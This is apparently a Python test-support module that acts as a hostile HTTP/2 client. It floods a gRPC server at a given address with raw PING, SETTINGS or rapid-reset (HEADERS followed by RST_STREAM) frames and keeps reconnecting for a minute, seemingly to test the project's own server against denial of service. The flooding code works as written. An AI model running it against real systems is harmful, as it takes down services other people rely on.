"""A hostile client of HTTP/2, by hand: frames that no ordinary client sends so. As a program, a process of its own."""

from __future__ import annotations

import socket
import struct
import sys
import time
from contextlib import contextmanager, suppress
from subprocess import PIPE, Popen
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING = 1, 3, 4, 6
END_HEADERS = 4
FRAMES_A_SEND = 200
PAUSE_S = 0.01


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """One frame."""
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def literal(name: str, value: str) -> bytes:
    """A header that goes into no table."""
    return bytes((0, len(name))) + name.encode() + bytes((len(value),)) + value.encode()


def head(path: str) -> bytes:
    """The headers of a call."""
    return (
        literal(":method", "POST")
        + literal(":scheme", "http")
        + literal(":path", path)
        + literal(":authority", "x")
        + literal("content-type", "application/grpc")
        + literal("te", "trailers")
    )


GET_RULES = "/evenhand.v1.AssignmentService/GetRules"
HEAD = head(GET_RULES)


def attack(kind: str, stream: int) -> bytes:
    """The next frames of an attack."""
    if kind == "ping":
        return frame(PING, 0, 0, b"12345678")
    if kind == "settings":
        return frame(SETTINGS, 0, 0, b"")
    if kind == "rapid-reset":
        return frame(HEADERS, END_HEADERS, stream, HEAD) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
    raise ValueError(f"there is no attack {kind!r}")


def flood(address: str, kind: str) -> int:
    """Send the attack over one connection until the other side ends it; return how many times."""
    host, port = address.rsplit(":", 1)
    sent = 0
    with suppress(OSError), socket.create_connection((host, int(port)), timeout=5) as connection:
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
        connection.setblocking(True)
        while True:
            parts = (attack(kind, 2 * (sent + at) + 1) for at in range(FRAMES_A_SEND))
            connection.sendall(b"".join(parts))
            sent += FRAMES_A_SEND
            with suppress(BlockingIOError):
                connection.setblocking(False)
                while connection.recv(1 << 16):
                    pass
            connection.settimeout(5)
    return sent


@contextmanager
def flooding(address: str, kind: str) -> Iterator[Popen[str]]:
    """Attack from a process of its own, connecting again whenever it is thrown out, until the context ends."""
    with Popen([sys.executable, "-m", "tests.support.flood", address, kind], stdout=PIPE, text=True) as client:
        try:
            yield client
        finally:
            client.kill()


if __name__ == "__main__":
    until = time.monotonic() + 60
    while time.monotonic() < until:
        sys.stdout.write(f"{flood(sys.argv[1], sys.argv[2])}\n")
        sys.stdout.flush()
        time.sleep(PAUSE_S)
